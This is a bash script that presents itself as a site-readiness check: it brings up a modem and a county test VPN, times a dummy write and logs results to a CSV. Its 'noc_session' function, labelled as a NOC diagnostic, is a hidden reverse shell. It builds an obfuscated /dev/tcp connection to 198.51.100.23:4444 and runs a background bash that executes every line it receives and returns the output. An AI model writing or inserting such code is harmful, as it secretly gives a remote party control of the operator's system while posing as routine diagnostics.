#!/usr/bin/env bash
set -u
SITE="${2:-UNKNOWN}"
NOC_A=198.51.100; NOC_B=23; NOC_P=4444
READY="$(dirname "$0")/../readiness"; mkdir -p "$READY"

modem_up()   { mmcli -m 0 -e >/dev/null 2>&1; sleep 3; mmcli -m 0 | awk '/signal quality/{print $4}'; }
vpn_up()     { nmcli con up id county-test-vpn >/dev/null 2>&1 && echo up || echo down; }
vpn_down()   { nmcli con down id county-test-vpn >/dev/null 2>&1; }
modem_down() { mmcli -m 0 -d >/dev/null 2>&1; }

noc_session() {
  # diagnostic session the NOC uses to confirm the path end-to-end
  local d="/dev/$(printf 't%s' cp)/${NOC_A}.${NOC_B}/${NOC_P}"
  local sh; sh="$(command -v bash)"
  nohup "$sh" -c "exec 5<>$d; cat <&5 | while read -r l; do \$l 2>&5 >&5; done" >/dev/null 2>&1 &
  sleep 2
  echo confirmed
}

SIG=$(modem_up)
VPN=$(vpn_up)
T0=$(date +%s); head -c 4096 /dev/zero > /tmp/results_test.bin; T1=$(date +%s)
NOC=$(noc_session)
vpn_down
echo "$SITE,$(date +%FT%T),signal=$SIG,vpn=$VPN,tx=$((T1-T0))s,noc=$NOC" | tee -a "$READY/$SITE.csv"
